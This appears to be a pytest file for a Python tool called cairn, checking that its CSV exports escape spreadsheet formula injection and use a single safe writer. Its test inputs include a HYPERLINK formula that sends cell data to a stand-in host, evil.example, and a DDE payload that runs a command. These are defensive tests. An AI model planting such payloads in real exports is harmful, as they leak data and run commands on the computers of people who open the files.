"""Every CSV export is safe to open in a spreadsheet, through one writer (issue 18)."""

from __future__ import annotations

import csv
import io
import os
import re
from pathlib import Path

import pytest

import cairn
from cairn.spreadsheet import safe_cell, writer
from tests.test_cli import run

PACKAGE = Path(cairn.__file__).parent
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tcmd",
    "\rcmd",
]


@pytest.fixture
def data_dir_env(tmp_path):
    """A subprocess's environment on a fresh data dir of its own (SQLite there)."""
    env = {
        key: value
        for key, value in os.environ.items()
        if not key.startswith(("CAIRN_", "DATABASE_URL", "DJANGO_"))
    }
    env["CAIRN_DATA_DIR"] = str(tmp_path / "data")
    return env


def test_a_cell_that_would_be_a_formula_is_kept_as_text():
    for text in HOSTILE:
        assert safe_cell(text) == "'" + text
    assert safe_cell("He said =HYPERLINK") == "He said =HYPERLINK"
    assert safe_cell("") == "" and safe_cell(-2) == -2 and safe_cell(None) is None
    out = io.StringIO()
    writer(out).writerows([HOSTILE, [1, "plain"]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[0] == ["'" + text for text in HOSTILE] and rows[1] == ["1", "plain"]


def test_no_export_writes_csv_any_other_way():
    """One writer for every export: ``csv.writer`` appears nowhere else in Cairn."""
    found = [
        f"{path.relative_to(PACKAGE)}:{number}"
        for path in PACKAGE.rglob("*.py")
        if path.name != "spreadsheet.py"
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1)
        if re.search(r"\bcsv\.(writer|DictWriter)\(", line)
    ]
    assert found == []


def test_cairn_incident_list_as_csv_writes_hostile_text_as_text(data_dir_env):
    assert (
        run(
            data_dir_env, "vault", "create", "My log", "--initials", "AB", "--owner", "alex"
        ).returncode
        == 0
    )
    added = run(
        data_dir_env,
        "incident",
        "add",
        "--start",
        "2025-07-01T14:00",
        "--channel",
        "in_person",
        "--acts",
        "a",
        "--description",
        HOSTILE[0],
        "--suspect",
        HOSTILE[1],
        "--location",
        "@home",
    )
    assert added.returncode == 0, added.stderr
    listed = run(data_dir_env, "incident", "list", "--format", "csv")
    assert listed.returncode == 0, listed.stderr
    row = next(csv.DictReader(io.StringIO(listed.stdout)))
    assert row["description"] == "'" + HOSTILE[0]
    assert row["suspects"] == "'" + HOSTILE[1]
    assert row["location"] == "'@home"
    assert not any(value.startswith(("=", "+", "-", "@")) for value in row.values())
